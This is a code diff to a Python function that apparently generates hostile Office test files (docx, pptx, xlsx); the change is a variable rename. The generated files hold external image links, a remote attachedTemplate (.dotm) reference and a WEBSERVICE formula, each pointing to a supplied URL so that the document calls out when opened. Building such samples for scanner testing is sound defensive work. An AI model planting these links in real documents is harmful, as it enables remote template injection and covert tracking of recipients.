@@ -97,12 +97,12 @@ def _generate_packages(url: str) -> Iterator[HostileFile]:
     extra = "".join(
         build_external_relationship(f"x{number}", kind, f"{url}/{kind}") for number, kind in enumerate(kinds)
     )
-    picture = '<a:blip r:link="x0" r:embed="x0"/>'
-    drawing = f"<w:p><w:r><w:drawing>{picture}</w:drawing><w:t>text</w:t></w:r></w:p>"
+    image = '<a:blip r:link="x0" r:embed="x0"/>'
+    drawing = f"<w:p><w:r><w:drawing>{image}</w:drawing><w:t>text</w:t></w:r></w:p>"
     settings = build_relationships(extra=build_external_relationship("t", "attachedTemplate", f"{url}/t.dotm"))
     parts = {"word/settings.xml": "<a/>", "word/_rels/settings.xml.rels": settings}
     yield _create_file("docx", "links.docx", pack_zip(build_word_document(drawing, extra_links=extra, parts=parts)))
-    shown = f"{build_text_box('text')}{_SLIDE_IMAGE.format(picture)}"
+    shown = f"{build_text_box('text')}{_SLIDE_IMAGE.format(image)}"
     yield _create_file("pptx", "links.pptx", pack_zip(build_presentation(shown, extra_links=extra)))
     rows = f'<row r="1"><c r="A1"><f>WEBSERVICE("{url}/w")</f><v>1</v></c></row>'
     yield _create_file("xlsx", "links.xlsx", pack_zip(build_workbook(rows, extra_links=extra)))
